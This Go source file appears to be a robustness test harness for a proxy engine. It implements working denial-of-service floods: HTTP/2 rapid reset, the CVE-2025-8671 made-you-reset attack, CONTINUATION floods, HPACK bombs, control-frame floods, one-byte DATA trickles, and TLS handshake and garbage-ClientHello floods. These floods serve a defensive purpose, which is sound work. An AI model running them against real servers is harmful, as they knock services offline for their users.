package main

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// Floods are the rows of R that bytes alone do not say. Each meets an engine of
// its own with its limits as they are shipped, while a well-behaved client goes
// on beside it. What is bounded is printed; nothing here asserts a duration.
//
// What the client beside a flood of HTTP/2 control frames would wait for is Go's
// scheduler: pairs of goroutines that are always ready hand the processor to each
// other, and the network is looked at between them only. So the engine lets such
// frames wait until they are due, and ends connections that go on with them.

// flood is one attack by many connections.
type flood struct {
	id, what string
	// once makes the attack on one connection and returns how much it did:
	// streams, frames, connections. It is called again and again, by several.
	once func(f *flooder) int
}

const (
	floodTime    = 4 * time.Second
	floodWorkers = 8
)

// flooder is what a flood works with.
type flooder struct {
	ctx    context.Context
	pid    int    // the engine's
	addr   string // the engine's
	target string // an allowed host with its port
	n      atomic.Int64
}

func floods() []flood {
	return []flood{
		{"R2", "rapid reset: streams opened and reset", rapidReset},
		{"R2", "resets that the server is made to send", madeToReset},
		{"R3", "CONTINUATION without end", continuations},
		{"R3", "HPACK bombs of 6 MB in 2 KB", bombs},
		{"R3", "SETTINGS and PING without reading", settings},
		{"R3", "WINDOW_UPDATE and PRIORITY without end", windows},
		{"R3", "a body in DATA of one byte", littleData},
		{"R5", "random names that the policy allows", randomNames},
		{"R5", "random names that no rule allows", deniedNames},
		{"L3", "garbage in place of a ClientHello", garbageHellos},
		{"R7", "whole handshakes, and nothing behind them", handshakes},
	}
}

// dial connects to the engine and makes a CONNECT to target.
func (f *flooder) dial(from, target string) (net.Conn, error) {
	d := net.Dialer{Timeout: patience}
	if from != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(from)}
	}
	conn, err := d.DialContext(f.ctx, "tcp", f.addr)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(2 * patience))
	if _, err := fmt.Fprintf(conn, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", target); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	const ok = "HTTP/1.1 200"
	head := make([]byte, 0, 1024)
	one := make([]byte, 1)
	for !strings.HasSuffix(string(head), "\r\n\r\n") {
		if _, err := conn.Read(one); err != nil || len(head) > 1000 {
			return nil, errors.Join(fmt.Errorf("CONNECT: %.80q", head), conn.Close())
		}
		head = append(head, one[0])
	}
	if !strings.HasPrefix(string(head), ok) {
		return nil, errors.Join(fmt.Errorf("CONNECT: %.80q", head), conn.Close())
	}
	return conn, nil
}

// tls is dial with a handshake for the same name.
func (f *flooder) tls(from, target, alpn string) (*tls.Conn, error) {
	conn, err := f.dial(from, target)
	if err != nil {
		return nil, err
	}
	tc := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, ServerName: hostOf(target), NextProtos: []string{alpn}, CurvePreferences: []tls.CurveID{tls.X25519}})
	if err := tc.HandshakeContext(f.ctx); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return tc, nil
}

// frames runs do on an HTTP/2 connection until it fails or the flood is over.
func (f *flooder) frames(do func(h *h2conn) error) int {
	conn, err := f.tls("", f.target, "h2")
	if err != nil {
		return 0
	}
	defer conn.Close()
	h := newH2(conn)
	for n := 0; ; n++ {
		if f.ctx.Err() != nil || do(h) != nil {
			return n
		}
	}
}

func (f *flooder) fields(path string) []string {
	return []string{":method: GET", ":scheme: https", ":authority: " + f.target, ":path: " + path}
}

func rapidReset(f *flooder) int {
	return f.frames(func(h *h2conn) error {
		id := h.next
		h.next += 2
		block := h.encode(f.fields("/files/reset")...)
		if err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return h.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// madeToReset sends on each stream what the server must answer with a reset
// (CVE-2025-8671).
func madeToReset(f *flooder) int {
	return f.frames(func(h *h2conn) error {
		id := h.next
		h.next += 2
		block := h.encode(f.fields("/files/reset")...)
		if err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return h.framer.WriteWindowUpdate(id, 0) // not allowed, and the stream's fault alone
	})
}

func continuations(f *flooder) int {
	begun := false
	return f.frames(func(h *h2conn) error {
		if !begun {
			begun = true
			return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.encode(f.fields("/files/a")...), EndStream: true})
		}
		return h.framer.WriteContinuation(1, false, h.encode("x: "+strings.Repeat("y", 8_000)))
	})
}

func bombs(f *flooder) int {
	return f.frames(func(h *h2conn) error {
		fields := f.fields("/files/a")
		bomb := "bomb: " + strings.Repeat("b", 3000)
		for range 2000 { // each but the first is one byte: an index
			fields = append(fields, bomb)
		}
		id := h.next
		h.next += 2
		return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.encode(fields...), EndStream: true, EndHeaders: true})
	})
}

func settings(f *flooder) int {
	return f.frames(func(h *h2conn) error {
		if err := h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}); err != nil {
			return err
		}
		return h.framer.WritePing(false, [8]byte{1})
	})
}

func windows(f *flooder) int {
	return f.frames(func(h *h2conn) error {
		if err := h.framer.WriteWindowUpdate(0, 1); err != nil {
			return err
		}
		return h.framer.WritePriority(1, http2.PriorityParam{StreamDep: 3})
	})
}

// littleData sends the bodies of requests that the policy allows, in the smallest
// pieces: what an honest client may do, at a rate that none has.
func littleData(f *flooder) int {
	const size = 200_000 // within a stream's window
	left := 0
	return f.frames(func(h *h2conn) error {
		if left == 0 {
			left = size
			if h.next == 1 {
				go func() { _, _ = io.Copy(io.Discard, h.conn) }() // answers and windows, to the connection's end
			}
			h.next += 2
			return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: h.next - 2, EndHeaders: true, BlockFragment: h.encode(":method: POST", ":scheme: https",
				":authority: "+f.target, ":path: "+chatPath, fmt.Sprint("content-length: ", size))})
		}
		left--
		return h.framer.WriteData(h.next-2, left == 0, []byte{'x'})
	})
}

func randomNames(f *flooder) int {
	conn, err := f.tls("", fmt.Sprintf("c%d.api.test:%s", f.n.Add(1), portOf(f.target)), "http/1.1")
	if err == nil {
		_ = conn.Close()
	}
	return 1
}

func handshakes(f *flooder) int {
	if conn, err := f.tls("", f.target, "http/1.1"); err == nil {
		_ = conn.Close()
	}
	return 1
}

func deniedNames(f *flooder) int {
	conn, err := f.dial("", fmt.Sprintf("c%d.denied.test:443", f.n.Add(1)))
	if err == nil {
		_ = conn.Close()
	}
	return 1
}

func garbageHellos(f *flooder) int {
	conn, err := f.dial("", f.target)
	if err != nil {
		return 1
	}
	defer conn.Close()
	noise := make([]byte, 256)
	_, _ = rand.Read(noise) // it never fails
	copy(noise, "\x16\x03\x01\x00\xfb")
	if _, err := conn.Write(noise); err == nil {
		_, _ = io.Copy(io.Discard, conn) // until the engine closes
	}
	return 1
}
